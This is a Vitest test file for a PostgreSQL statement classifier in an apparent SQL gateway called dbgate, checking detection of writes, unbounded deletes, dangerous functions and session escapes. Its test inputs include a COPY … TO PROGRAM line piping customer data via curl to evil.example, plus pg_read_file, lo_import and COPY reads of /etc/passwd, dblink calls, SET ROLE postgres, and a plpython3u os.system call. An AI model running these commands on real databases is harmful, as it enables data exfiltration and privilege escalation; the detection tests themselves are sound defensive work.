/**
 * Statement classification on PostgreSQL's own grammar: what each statement of a message is, which tables it reads
 * and writes, which functions it calls, whether its UPDATE/DELETE is bounded, what it changes in the session, and why
 * dbgate cannot analyse it when the parse tree does not show what it will do. Real libpg-query, no mocks; the
 * statements use the demo schema (customers, orders, payments).
 */
import { beforeAll, describe, expect, it } from 'vitest';
import {
  classifyStatements,
  loadStatementParser,
  sessionEffectOf,
  type StatementInfo,
} from '../../src/gateway/policy/classify.js';

beforeAll(async () => {
  await loadStatementParser();
});

/** The one statement of `sql`. */
function only(sql: string): StatementInfo {
  const classification = classifyStatements(sql);
  expect(classification.parseError).toBeNull();
  expect(classification.statements).toHaveLength(1);
  return classification.statements[0]!;
}

const read = (name: string, schema: string | null = null) => ({ schema, name, access: 'read' });
const write = (name: string, schema: string | null = null) => ({ schema, name, access: 'write' });

interface Case {
  name: string;
  sql: string;
  expected: Partial<Record<keyof StatementInfo, unknown>>;
}

describe('classifyStatements: reads and writes', () => {
  const cases: Case[] = [
    {
      name: 'a plain SELECT reads its tables',
      sql: 'SELECT c.name, o.total_cents FROM customers c JOIN orders o ON o.customer_id = c.id WHERE c.id = 1',
      expected: { kind: 'select', kinds: ['select'], writes: false, tables: [read('customers'), read('orders')], hasWhere: null },
    },
    {
      name: 'schema-qualified names keep their schema; unqualified ones have schema null',
      sql: 'SELECT * FROM public.customers, payments',
      expected: { tables: [read('customers', 'public'), read('payments')] },
    },
    {
      name: 'tables in subqueries, set operations and LATERAL are collected',
      sql: 'SELECT id FROM customers WHERE id IN (SELECT customer_id FROM orders) UNION SELECT order_id FROM payments, LATERAL (SELECT 1) s',
      expected: { kind: 'select', writes: false, tables: [read('customers'), read('orders'), read('payments')] },
    },
    {
      name: 'INSERT … SELECT writes its target and reads its source',
      sql: 'INSERT INTO orders (customer_id, status, total_cents) SELECT id, \'pending\', 0 FROM customers',
      expected: { kind: 'insert', kinds: ['insert'], writes: true, tables: [write('orders'), read('customers')] },
    },
    {
      name: 'INSERT … ON CONFLICT DO NOTHING is an insert',
      sql: 'INSERT INTO orders VALUES (1) ON CONFLICT DO NOTHING',
      expected: { kind: 'insert', writes: true, tables: [write('orders')] },
    },
    {
      name: 'UPDATE with a WHERE is bounded; tables in its subquery are read',
      sql: 'UPDATE orders SET status = \'paid\' WHERE customer_id IN (SELECT id FROM customers WHERE email = \'a@b.c\')',
      expected: { kind: 'update', writes: true, hasWhere: true, tables: [write('orders'), read('customers')] },
    },
    {
      name: 'DELETE without WHERE is unbounded',
      sql: 'DELETE FROM orders',
      expected: { kind: 'delete', writes: true, hasWhere: false, tables: [write('orders')] },
    },
    {
      name: 'a WHERE that references no column (WHERE true) does not bound an UPDATE',
      sql: 'UPDATE customers SET email = \'x\' WHERE true',
      expected: { kind: 'update', hasWhere: false },
    },
    {
      name: 'WHERE 1 = 1 does not bound a DELETE either',
      sql: 'DELETE FROM orders WHERE 1 = 1',
      expected: { kind: 'delete', hasWhere: false },
    },
    {
      name: 'MERGE writes its target and reads its source',
      sql: 'MERGE INTO orders o USING payments p ON o.id = p.order_id WHEN MATCHED THEN UPDATE SET status = \'paid\'',
      expected: { kind: 'merge', kinds: ['merge'], writes: true, tables: [write('orders'), read('payments')] },
    },
    {
      name: 'SELECT … FOR UPDATE locks rows against writers: a write',
      sql: 'SELECT * FROM customers WHERE id = 1 FOR UPDATE',
      expected: { kind: 'select', writes: true, tables: [write('customers')] },
    },
    {
      name: 'TRUNCATE writes every table it names',
      sql: 'TRUNCATE customers, public.orders',
      expected: { kind: 'truncate', writes: true, tables: [write('customers'), write('orders', 'public')] },
    },
    {
      name: 'nextval() in a SELECT advances a sequence: a write',
      sql: 'SELECT nextval(\'orders_id_seq\')',
      expected: { kind: 'select', writes: true, unknownFunctions: [] },
    },
    {
      name: 'LOCK in ACCESS SHARE mode only reads',
      sql: 'LOCK TABLE orders IN ACCESS SHARE MODE',
      expected: { kind: 'utility', writes: false, tables: [read('orders')] },
    },
    {
      name: 'LOCK in the default ACCESS EXCLUSIVE mode blocks writers: a write',
      sql: 'LOCK TABLE orders',
      expected: { kind: 'utility', writes: true, tables: [write('orders')] },
    },
    {
      name: 'VACUUM changes the tables it names',
      sql: 'VACUUM ANALYZE customers',
      expected: { kind: 'utility', writes: true, tables: [write('customers')] },
    },
    {
      name: 'NOTIFY reaches other sessions: a write; LISTEN is not',
      sql: 'NOTIFY orders_changed, \'x\'',
      expected: { kind: 'listen', writes: true },
    },
    {
      name: 'LISTEN is a read-only listen',
      sql: 'LISTEN orders_changed',
      expected: { kind: 'listen', writes: false },
    },
    {
      name: 'BEGIN is transaction control',
      sql: 'BEGIN ISOLATION LEVEL SERIALIZABLE',
      expected: { kind: 'transaction', writes: false, tables: [] },
    },
  ];
  it.each(cases)('$name', ({ sql, expected }) => {
    expect(only(sql)).toMatchObject(expected);
  });
});

describe('classifyStatements: writes hidden inside other statements', () => {
  const cases: Case[] = [
    {
      name: 'WITH d AS (DELETE …) SELECT is a SELECT that deletes',
      sql: 'WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d',
      expected: { kind: 'select', kinds: ['select', 'delete'], writes: true, hasWhere: false, tables: [write('orders')] },
    },
    {
      name: 'a data-modifying CTE inside a subquery is found too',
      sql: 'SELECT * FROM (WITH u AS (UPDATE payments SET status = \'x\' WHERE id = 1 RETURNING id) SELECT * FROM u) s',
      expected: { kinds: ['select', 'update'], writes: true, hasWhere: true, tables: [write('payments')] },
    },
    {
      name: 'a CTE name is not a table',
      sql: 'WITH customers AS (SELECT 1 AS id) SELECT * FROM customers',
      expected: { tables: [] },
    },
    {
      name: 'without RECURSIVE a CTE cannot see a later CTE: the name there is the real table',
      sql: 'WITH a AS (SELECT * FROM payments), payments AS (SELECT 1) SELECT * FROM a, payments',
      expected: { tables: [read('payments')] },
    },
    {
      name: 'a CTE named like the DML target does not hide the target',
      sql: 'WITH orders AS (SELECT 1) DELETE FROM orders WHERE id = 1',
      expected: { kind: 'delete', tables: [write('orders')] },
    },
    {
      name: 'EXPLAIN without ANALYZE does not run the statement: no write, tables read',
      sql: 'EXPLAIN DELETE FROM orders',
      expected: { kind: 'explain', kinds: ['explain'], writes: false, hasWhere: null, tables: [read('orders')] },
    },
    {
      name: 'EXPLAIN ANALYZE runs the statement: it writes',
      sql: 'EXPLAIN ANALYZE DELETE FROM orders',
      expected: { kind: 'explain', kinds: ['explain', 'delete'], writes: true, hasWhere: false, tables: [write('orders')] },
    },
    {
      name: 'EXPLAIN (ANALYZE, FORMAT JSON) runs it too',
      sql: 'EXPLAIN (ANALYZE, FORMAT JSON) INSERT INTO payments VALUES (1)',
      expected: { kinds: ['explain', 'insert'], writes: true, tables: [write('payments')] },
    },
    {
      name: 'EXPLAIN (ANALYZE false) does not',
      sql: 'EXPLAIN (ANALYZE false) UPDATE orders SET status = \'x\'',
      expected: { kinds: ['explain'], writes: false, tables: [read('orders')] },
    },
    {
      name: 'CREATE TABLE AS creates a table from what it reads',
      sql: 'CREATE TABLE t3 AS SELECT * FROM orders',
      expected: { kind: 'ddl', ddlObject: 'table', ddlAction: 'create', writes: true, tables: [write('t3'), read('orders')] },
    },
    {
      name: 'SELECT … INTO is CREATE TABLE AS',
      sql: 'SELECT * INTO t2 FROM customers',
      expected: { kind: 'ddl', ddlObject: 'table', ddlAction: 'create', writes: true, tables: [write('t2'), read('customers')] },
    },
    {
      name: 'CREATE MATERIALIZED VIEW is DDL on a materialized view',
      sql: 'CREATE MATERIALIZED VIEW mv AS SELECT * FROM payments',
      expected: { kind: 'ddl', ddlObject: 'materialized_view', ddlAction: 'create', tables: [write('mv'), read('payments')] },
    },
    {
      name: 'PREPARE is judged as the statement it prepares',
      sql: 'PREPARE wipe AS DELETE FROM orders WHERE id = $1',
      expected: { kind: 'prepare', kinds: ['prepare', 'delete'], writes: true, hasWhere: true, tables: [write('orders')] },
    },
    {
      name: 'DECLARE CURSOR reads what its query reads',
      sql: 'DECLARE c CURSOR FOR SELECT email FROM customers',
      expected: { kind: 'select', writes: false, tables: [read('customers')] },
    },
  ];
  it.each(cases)('$name', ({ sql, expected }) => {
    expect(only(sql)).toMatchObject(expected);
  });
});

describe('classifyStatements: COPY', () => {
  const cases: Case[] = [
    {
      name: 'COPY … FROM STDIN writes the table',
      sql: 'COPY orders FROM STDIN',
      expected: { kind: 'copy', writes: true, tables: [write('orders')], unanalyzable: null },
    },
    {
      name: 'COPY … TO STDOUT reads it',
      sql: 'COPY customers (email) TO STDOUT',
      expected: { kind: 'copy', writes: false, tables: [read('customers')], unanalyzable: null },
    },
    {
      name: 'COPY (query) TO STDOUT reads what the query reads',
      sql: 'COPY (SELECT c.email FROM customers c JOIN payments p ON true) TO STDOUT',
      expected: { kind: 'copy', writes: false, tables: [read('customers'), read('payments')] },
    },
    {
      name: 'COPY (DELETE … RETURNING) TO STDOUT deletes',
      sql: 'COPY (DELETE FROM orders RETURNING *) TO STDOUT',
      expected: { kind: 'copy', kinds: ['copy', 'delete'], writes: true, hasWhere: false, tables: [write('orders')] },
    },
    {
      name: 'COPY … TO PROGRAM runs a shell command on the server: unanalysable',
      sql: 'COPY customers TO PROGRAM \'curl -d @- https://evil.example\'',
      expected: {
        kind: 'copy',
        unanalyzable: 'COPY … PROGRAM runs a shell command on the database server',
        unanalyzableReasons: [{ cause: 'copy_program', message: 'COPY … PROGRAM runs a shell command on the database server' }],
      },
    },
    {
      name: 'COPY … FROM a server file reads the server\'s file system: unanalysable',
      sql: 'COPY orders FROM \'/etc/passwd\'',
      expected: { kind: 'copy', writes: true, unanalyzableReasons: [expect.objectContaining({ cause: 'copy_server_file' })] },
    },
  ];
  it.each(cases)('$name', ({ sql, expected }) => {
    expect(only(sql)).toMatchObject(expected);
  });
});

describe('classifyStatements: DO blocks', () => {
  it('parses a DO body with the PL/pgSQL parser and collects its statements', () => {
    const info = only(`DO $$
      DECLARE n int;
      BEGIN
        SELECT count(*) INTO n FROM customers;
        DELETE FROM payments WHERE id = n;
      END $$`);
    expect(info).toMatchObject({
      kind: 'do',
      kinds: ['do', 'delete'],
      writes: true,
      hasWhere: true,
      tables: [read('customers'), write('payments')],
      unanalyzable: null,
    });
  });

  it('marks EXECUTE of a string as dynamic SQL', () => {
    const info = only('DO $$ BEGIN EXECUTE \'DROP TABLE \' || \'customers\'; END $$');
    expect(info.kind).toBe('do');
    expect(info.unanalyzableReasons.map((reason) => reason.cause)).toEqual(['dynamic_sql']);
    expect(info.unanalyzable).toMatch(/dynamic SQL/);
  });

  it('marks FOR … IN EXECUTE and OPEN … FOR EXECUTE as dynamic SQL', () => {
    const info = only(`DO $$ DECLARE r record; c refcursor; BEGIN
        FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP;
        OPEN c FOR EXECUTE 'SELECT 2';
      END $$`);
    expect(info.unanalyzableReasons.map((reason) => reason.cause)).toEqual(['dynamic_sql', 'dynamic_sql']);
  });

  it('finds a dangerous function hidden in an assignment', () => {
    const info = only('DO $$ DECLARE v text; BEGIN v := pg_read_file(\'/etc/passwd\'); RAISE NOTICE \'%\', v; END $$');
    expect(info.dangerousFunctions).toEqual([{ name: 'pg_read_file', why: 'it reads the database server\'s file system' }]);
  });

  it('finds a session escape inside the block', () => {
    const info = only('DO $$ BEGIN SET ROLE postgres; PERFORM set_config(\'search_path\', \'evil\', false); END $$');
    expect(info.sessionEffects.map((effect) => [effect.kind, effect.via])).toEqual([
      ['set_role', 'set'],
      ['search_path', 'set_config'],
    ]);
  });

  it('cannot analyse a block in another language', () => {
    const info = only('DO LANGUAGE plpython3u $$ import os; os.system("id") $$');
    expect(info.unanalyzableReasons).toEqual([
      { cause: 'do_block', message: 'the DO block is written in plpython3u, which dbgate cannot analyse' },
    ]);
  });

  it('cannot analyse a block whose body does not parse', () => {
    const info = only('DO $$ BEGIN this is not plpgsql; END $$');
    expect(info.unanalyzableReasons[0]?.cause).toBe('do_block');
  });

  it('handles a body that contains the dollar tag dbgate would wrap it in', () => {
    const info = only('DO $x$ BEGIN PERFORM \'$dbgate$\'; DELETE FROM orders WHERE id = 1; END $x$');
    expect(info).toMatchObject({ unanalyzable: null, tables: [write('orders')] });
  });
});

describe('classifyStatements: functions', () => {
  const cases: Case[] = [
    {
      name: 'known built-ins are neither unknown nor dangerous',
      sql: 'SELECT count(*), lower(email), coalesce(phone, \'\'), date_trunc(\'day\', created_at), now() FROM customers',
      expected: { functions: ['count', 'lower', 'date_trunc', 'now'], unknownFunctions: [], dangerousFunctions: [] },
    },
    {
      name: 'SQL-syntax built-ins (EXTRACT, TRIM, SUBSTRING, AT TIME ZONE) are known',
      sql: 'SELECT extract(year FROM created_at), trim(both \' \' FROM name), substring(name FROM 1 FOR 2), created_at AT TIME ZONE \'UTC\' FROM customers',
      expected: { unknownFunctions: [], dangerousFunctions: [] },
    },
    {
      name: 'a user-defined function in a SELECT is reported as unknown (it could write)',
      sql: 'SELECT audit_touch(id) FROM customers',
      expected: { writes: false, functions: ['audit_touch'], unknownFunctions: ['audit_touch'], unanalyzable: null },
    },
    {
      name: 'an unknown function on a write path makes the statement unanalysable',
      sql: 'UPDATE orders SET status = normalize_status(status) WHERE id = 1',
      expected: {
        unknownFunctions: ['normalize_status'],
        unanalyzableReasons: [expect.objectContaining({ cause: 'unknown_function', function: 'normalize_status' })],
      },
    },
    {
      name: 'a schema-qualified look-alike of a built-in is somebody\'s own function',
      sql: 'SELECT public.lower(email), pg_catalog.lower(email) FROM customers',
      expected: { functions: ['public.lower', 'pg_catalog.lower'], unknownFunctions: ['public.lower'] },
    },
    {
      name: 'a quoted upper-case name is not the built-in',
      sql: 'SELECT "LOWER"(email) FROM customers',
      expected: { unknownFunctions: ['LOWER'] },
    },
    {
      name: 'pg_read_file is dangerous, qualified or not',
      sql: 'SELECT pg_catalog.pg_read_file(\'/etc/passwd\')',
      expected: { dangerousFunctions: [{ name: 'pg_catalog.pg_read_file', why: 'it reads the database server\'s file system' }] },
    },
    {
      name: 'lo_import is dangerous (large objects, server file system)',
      sql: 'SELECT lo_import(\'/etc/passwd\')',
      expected: { dangerousFunctions: [expect.objectContaining({ name: 'lo_import' })] },
    },
    {
      name: 'dblink in FROM is dangerous, in whatever schema the extension lives',
      sql: 'SELECT * FROM ext.dblink(\'host=evil\', \'SELECT 1\') AS t(a int)',
      expected: { dangerousFunctions: [expect.objectContaining({ name: 'ext.dblink' })] },
    },
    {
      name: 'pg_ls_dir and pg_terminate_backend are dangerous',
      sql: 'SELECT pg_ls_dir(\'.\'), pg_terminate_backend(42)',
      expected: { dangerousFunctions: [expect.objectContaining({ name: 'pg_ls_dir' }), expect.objectContaining({ name: 'pg_terminate_backend' })] },
    },
    {
      name: 'query_to_xml runs an SQL string: dynamic SQL',
      sql: 'SELECT query_to_xml(\'DELETE FROM orders RETURNING *\', true, false, \'\')',
      expected: { unanalyzableReasons: [expect.objectContaining({ cause: 'dynamic_sql_function', function: 'query_to_xml' })] },
    },
    {
      name: 'table_to_xml reads a whole table named by a string: dynamic SQL',
      sql: 'SELECT table_to_xml(\'customers\', true, false, \'\')',
      expected: { tables: [], unanalyzableReasons: [expect.objectContaining({ function: 'table_to_xml' })] },
    },
    {
      name: 'CALL names a procedure: unknown, and a write',
      sql: 'CALL archive_orders(2024)',
      expected: { kind: 'call', writes: true, functions: ['archive_orders'], unknownFunctions: ['archive_orders'] },
    },
  ];
  it.each(cases)('$name', ({ sql, expected }) => {
    expect(only(sql)).toMatchObject(expected);
  });
});

describe('classifyStatements: session effects', () => {
  const cases: Array<{ name: string; sql: string; effects: unknown[] }> = [
    { name: 'SET ROLE', sql: 'SET ROLE postgres', effects: [{ kind: 'set_role', name: 'role', via: 'set', value: 'postgres' }] },
    { name: 'RESET ROLE', sql: 'RESET ROLE', effects: [{ kind: 'set_role', via: 'reset' }] },
    {
      name: 'SET SESSION AUTHORIZATION',
      sql: 'SET SESSION AUTHORIZATION postgres',
      effects: [{ kind: 'session_authorization', via: 'set', value: 'postgres' }],
    },
    {
      name: 'SET search_path lists the schemas',
      sql: 'SET search_path = evil, "Public", \'$user\'',
      effects: [{ kind: 'search_path', via: 'set', searchPath: ['evil', 'Public', '$user'] }],
    },
    { name: 'SET LOCAL search_path is local', sql: 'SET LOCAL search_path TO x', effects: [{ kind: 'search_path', local: true }] },
    { name: 'RESET search_path', sql: 'RESET search_path', effects: [{ kind: 'search_path', via: 'reset' }] },
    {
      name: 'standard_conforming_strings',
      sql: 'SET standard_conforming_strings = off',
      effects: [{ kind: 'standard_conforming_strings', value: 'off' }],
    },
    { name: 'client_encoding', sql: 'SET client_encoding = \'SJIS\'', effects: [{ kind: 'client_encoding', value: 'SJIS' }] },
    { name: 'SET NAMES is client_encoding', sql: 'SET NAMES \'UTF8\'', effects: [{ kind: 'client_encoding', value: 'UTF8' }] },
    { name: 'RESET ALL', sql: 'RESET ALL', effects: [{ kind: 'reset_all', name: 'all' }] },
    { name: 'DISCARD ALL', sql: 'DISCARD ALL', effects: [{ kind: 'discard', name: 'all' }] },
    { name: 'an ordinary setting', sql: 'SET statement_timeout = \'5s\'', effects: [{ kind: 'other_set', name: 'statement_timeout', value: '5s' }] },
    {
      name: 'set_config(\'role\', …) is SET ROLE in function form',
      sql: 'SELECT set_config(\'role\', \'postgres\', false)',
      effects: [{ kind: 'set_role', via: 'set_config', value: 'postgres' }],
    },
    {
      name: 'set_config with constants as the whole SELECT runs once, like SET (is_local read as PostgreSQL does)',
      sql: 'SELECT pg_catalog.set_config(\'search_path\', \'a, b\', \'on\')',
      effects: [{ kind: 'search_path', via: 'set_config', searchPath: ['a', 'b'], local: true, once: true }],
    },
    {
      name: 'set_config with constants in a SELECT with a FROM may run any number of times',
      sql: 'SELECT set_config(\'search_path\', \'a\', false) FROM generate_series(1, 3)',
      effects: [{ kind: 'search_path', via: 'set_config', searchPath: ['a'] }],
    },
    {
      name: 'set_config with a computed value',
      sql: 'SELECT set_config(\'search_path\', current_setting(\'x.y\'), true) ',
      effects: [{ kind: 'search_path', via: 'set_config', computed: true, local: true }],
    },
  ];
  it.each(cases)('$name', ({ sql, effects }) => {
    expect(only(sql).sessionEffects).toMatchObject(effects);
  });

  it('set_config runs once only as the whole of a SELECT, with constant arguments', () => {
    const once = (sql: string): boolean | undefined => only(sql).sessionEffects[0]?.once;
    expect(once('SELECT set_config(\'search_path\', \'a\', false)')).toBe(true);
    expect(once('SELECT set_config(\'search_path\', \'a\', false) AS previous')).toBe(true);
    for (const sql of [
      'SELECT set_config(\'search_path\', \'a\', false) FROM generate_series(1, 3)',
      'SELECT set_config(\'search_path\', \'a\', false) WHERE false',
      'SELECT set_config(\'search_path\', \'a\', false) LIMIT 0',
      'SELECT set_config(\'search_path\', \'a\', false) OFFSET 1',
      'SELECT (SELECT set_config(\'search_path\', \'a\', false))',
      'SELECT set_config(\'search_path\', \'a\', false), 1',
      'SELECT set_config(\'search_path\', \'a\', random() > 0.5)',
      'SELECT set_config(\'search_path\', \'a\', \'maybe\')',
      'WITH x AS (SELECT 1) SELECT set_config(\'search_path\', \'a\', false)',
      'SELECT set_config(\'search_path\', \'a\', false) FOR UPDATE',
    ]) expect(once(sql), sql).toBeUndefined();
  });

  it('reports the prepared statements and portals an SQL statement creates or drops by name', () => {
    expect(only('PREPARE p AS SELECT 1').namesChanged).toEqual([{ of: 'statement', name: 'p' }]);
    expect(only('DEALLOCATE PREPARE p').namesChanged).toEqual([{ of: 'statement', name: 'p' }]);
    expect(only('DEALLOCATE ALL').namesChanged).toEqual([{ of: 'statement', name: null }]);
    expect(only('DECLARE "C" CURSOR FOR SELECT 1').namesChanged).toEqual([{ of: 'portal', name: 'C' }]);
    expect(only('CLOSE c').namesChanged).toEqual([{ of: 'portal', name: 'c' }]);
    expect(only('CLOSE ALL').namesChanged).toEqual([{ of: 'portal', name: null }]);
    expect(only('DISCARD ALL').namesChanged).toEqual([{ of: 'statement', name: null }, { of: 'portal', name: null }]);
    expect(only('DISCARD PLANS').namesChanged).toBeUndefined();
    expect(only('FETCH 5 FROM c').fetchesCursor).toBe(true);
    expect(only('MOVE 5 IN c').fetchesCursor).toBeUndefined();
    expect(only('SELECT 1').namesChanged).toBeUndefined();
  });

  it('a set_config whose setting name is computed cannot be analysed', () => {
    const info = only('SELECT set_config(lower(\'ROLE\'), \'postgres\', false)');
    expect(info.sessionEffects).toEqual([]);
    expect(info.unanalyzableReasons.map((reason) => reason.cause)).toEqual(['computed_setting']);
  });

  it('SET TRANSACTION is transaction control, not a session effect', () => {
    expect(only('SET TRANSACTION ISOLATION LEVEL SERIALIZABLE')).toMatchObject({ kind: 'transaction', sessionEffects: [] });
  });

  it('describes startup parameters the same way', () => {
    expect(sessionEffectOf('search_path', '"$user", public', 'startup')).toEqual({
      kind: 'search_path',
      name: 'search_path',
      via: 'startup',
      value: '"$user", public',
      searchPath: ['$user', 'public'],
    });
  });
});

describe('classifyStatements: DDL, grants and roles', () => {
  const cases: Case[] = [
    { name: 'CREATE INDEX', sql: 'CREATE INDEX i ON orders (status)', expected: { kind: 'ddl', ddlObject: 'index', ddlAction: 'create', tables: [write('orders')] } },
    { name: 'CREATE VIEW reads what the view reads; nothing runs', sql: 'CREATE VIEW v AS SELECT * FROM customers', expected: { ddlObject: 'view', ddlAction: 'create', tables: [write('v'), read('customers')] } },
    { name: 'CREATE FUNCTION', sql: 'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS \'SELECT 1\'', expected: { kind: 'ddl', ddlObject: 'function', ddlAction: 'create' } },
    { name: 'CREATE PROCEDURE', sql: 'CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM orders $$', expected: { ddlObject: 'procedure', ddlAction: 'create' } },
    { name: 'CREATE SCHEMA', sql: 'CREATE SCHEMA evil', expected: { ddlObject: 'schema', ddlAction: 'create' } },
    { name: 'CREATE EXTENSION', sql: 'CREATE EXTENSION dblink', expected: { ddlObject: 'extension', ddlAction: 'create' } },
    { name: 'ALTER TABLE', sql: 'ALTER TABLE customers ADD COLUMN note text', expected: { ddlObject: 'table', ddlAction: 'alter', tables: [write('customers')] } },
    { name: 'ALTER TABLE … RENAME COLUMN is a change to the table', sql: 'ALTER TABLE customers RENAME COLUMN email TO mail', expected: { ddlObject: 'table', ddlAction: 'alter', tables: [write('customers')] } },
    { name: 'DROP TABLE writes every table it drops', sql: 'DROP TABLE payments, public.orders', expected: { ddlObject: 'table', ddlAction: 'drop', tables: [write('payments'), write('orders', 'public')] } },
    { name: 'DROP VIEW', sql: 'DROP VIEW IF EXISTS v', expected: { ddlObject: 'view', ddlAction: 'drop' } },
    { name: 'DROP INDEX', sql: 'DROP INDEX i', expected: { ddlObject: 'index', ddlAction: 'drop' } },
    { name: 'COMMENT ON TABLE', sql: 'COMMENT ON TABLE customers IS \'x\'', expected: { kind: 'ddl', ddlObject: 'table', ddlAction: 'alter' } },
    { name: 'ALTER SYSTEM', sql: 'ALTER SYSTEM SET work_mem = \'1GB\'', expected: { kind: 'ddl', ddlObject: 'system', ddlAction: 'alter' } },
    { name: 'GRANT on a table', sql: 'GRANT SELECT ON customers TO alice', expected: { kind: 'grant', kinds: ['grant'], writes: true, tables: [write('customers')] } },
    { name: 'GRANT of a role is a role change', sql: 'GRANT pg_read_server_files TO alice', expected: { kind: 'role', ddlObject: 'role', ddlAction: 'alter' } },
    { name: 'CREATE VIEW changes what its name stands for', sql: 'CREATE OR REPLACE VIEW v AS SELECT * FROM payments', expected: { redefinedNames: ['v'] } },
    { name: 'RENAME changes what both names stand for', sql: 'ALTER VIEW v RENAME TO w', expected: { redefinedNames: ['v', 'w'] } },
    { name: 'RENAME COLUMN changes what its table stands for', sql: 'ALTER TABLE customers RENAME COLUMN email TO mail', expected: { redefinedNames: ['customers', 'mail'] } },
    { name: 'SET SCHEMA changes what its name stands for', sql: 'ALTER TABLE t SET SCHEMA other', expected: { redefinedNames: ['t'] } },
    { name: 'CREATE MATERIALIZED VIEW redefines a name and runs its query', sql: 'CREATE MATERIALIZED VIEW mv AS SELECT * FROM payments', expected: { redefinedNames: ['mv'], runsQuery: true } },
    { name: 'CREATE TABLE AS runs its query', sql: 'CREATE TABLE t AS SELECT * FROM payments', expected: { runsQuery: true } },
    { name: 'SELECT INTO runs its query', sql: 'SELECT * INTO t FROM payments', expected: { runsQuery: true } },
    {
      name: 'CREATE RULE writes the tables its actions write, from then on',
      sql: 'CREATE RULE r AS ON UPDATE TO harmless DO INSTEAD UPDATE payments SET amount_cents = 0',
      expected: { ddlObject: 'rule', ddlAction: 'create', redefinedNames: ['harmless', 'payments'], tables: [write('harmless'), write('payments')] },
    },
    { name: 'CREATE ROLE', sql: 'CREATE ROLE x LOGIN SUPERUSER', expected: { kind: 'role', ddlObject: 'role', ddlAction: 'create' } },
    { name: 'DROP ROLE', sql: 'DROP ROLE x', expected: { kind: 'role', ddlObject: 'role', ddlAction: 'drop' } },
  ];
  it.each(cases)('$name', ({ sql, expected }) => {
    expect(only(sql)).toMatchObject(expected);
  });

  it('a type named like text, varchar, char or name cannot be created or renamed to: casts to it would change', () => {
    for (const sql of [
      "CREATE DOMAIN pg_temp.text AS varchar CHECK (VALUE LIKE 'k%')",
      'CREATE TYPE pg_temp.varchar AS (a int)',
      "CREATE TYPE bpchar AS ENUM ('a')",
      'CREATE TYPE name AS RANGE (subtype = int4)',
      'ALTER DOMAIN d RENAME TO text',
    ]) {
      expect(only(sql).unanalyzableReasons.map((reason) => reason.cause)).toEqual(['shadowing_type']);
    }
    expect(only('CREATE DOMAIN email_text AS text').unanalyzable).toBeNull();
  });

  it('DDL that only adds to a relation does not redefine it, nor run a query', () => {
    const info = only('ALTER TABLE customers ADD COLUMN note text');
    expect(info.redefinedNames).toBeUndefined();
    expect(info.runsQuery).toBeUndefined();
  });
});

describe('classifyStatements: what cannot be analysed', () => {
  it('SQL-level EXECUTE runs a statement whose text is not in the message', () => {
    expect(only('EXECUTE wipe(1)')).toMatchObject({
      kind: 'execute',
      unanalyzableReasons: [expect.objectContaining({ cause: 'prepared_statement' })],
    });
  });

  it('LOAD loads a server library', () => {
    expect(only('LOAD \'plpython3u\'').unanalyzableReasons.map((reason) => reason.cause)).toEqual(['load_library']);
  });
});

describe('classifyStatements: messages', () => {
  it('returns one classification per statement, comments and all (a statement text starts at its first token)', () => {
    const sql = 'SELECT 1; /* a comment; with a semicolon */ DELETE FROM orders WHERE id = 1 -- trailing; comment\n; SET ROLE x';
    const { statements, parseError } = classifyStatements(sql);
    expect(parseError).toBeNull();
    expect(statements.map((statement) => statement.kind)).toEqual(['select', 'delete', 'set']);
    expect(statements[1]!.text).toBe('DELETE FROM orders WHERE id = 1 -- trailing; comment');
  });

  it('reads dollar-quoted and quoted strings as strings, not statements', () => {
    const { statements } = classifyStatements('SELECT $tag$; DROP TABLE customers; $tag$, \'; DELETE FROM orders\'');
    expect(statements).toHaveLength(1);
    expect(statements[0]).toMatchObject({ kind: 'select', tables: [], writes: false });
  });

  it('slices statement texts by character, also after multi-byte characters', () => {
    const { statements } = classifyStatements('SELECT \'héllo ✓\'; SELECT 2');
    expect(statements.map((statement) => statement.text)).toEqual(['SELECT \'héllo ✓\'', 'SELECT 2']);
  });

  it('reports a syntax error with PostgreSQL\'s message and position', () => {
    const classification = classifyStatements('SELECT 1; SELEC 2');
    expect(classification).toEqual({
      statements: [], parseError: 'syntax error at or near "SELEC"', parseErrorPosition: 10, literalSensitive: false,
    });
  });

  it('refuses text with a NUL character (the parser would stop reading there)', () => {
    expect(classifyStatements('SELECT 1\0; DROP TABLE customers').parseError).toMatch(/NUL/);
  });

  it('an empty or comment-only message has no statements and no error', () => {
    expect(classifyStatements('')).toEqual({ statements: [], parseError: null, literalSensitive: false });
    expect(classifyStatements('  -- nothing\n /* at all */ ;')).toEqual({ statements: [], parseError: null, literalSensitive: false });
  });

  it('fails closed on absurdly deep nesting: a syntax error, or an unanalysable statement, never a silent pass', () => {
    for (const depth of [100, 1000, 5000]) {
      const sql = `SELECT * FROM ${'(SELECT * FROM '.repeat(depth)} customers ${') s'.repeat(depth)}`;
      const classification = classifyStatements(sql);
      if (classification.parseError !== null) continue;
      const info = classification.statements[0]!;
      expect(info.unanalyzable !== null || (info.kind === 'select' && info.tables.length === 1)).toBe(true);
    }
  });
});
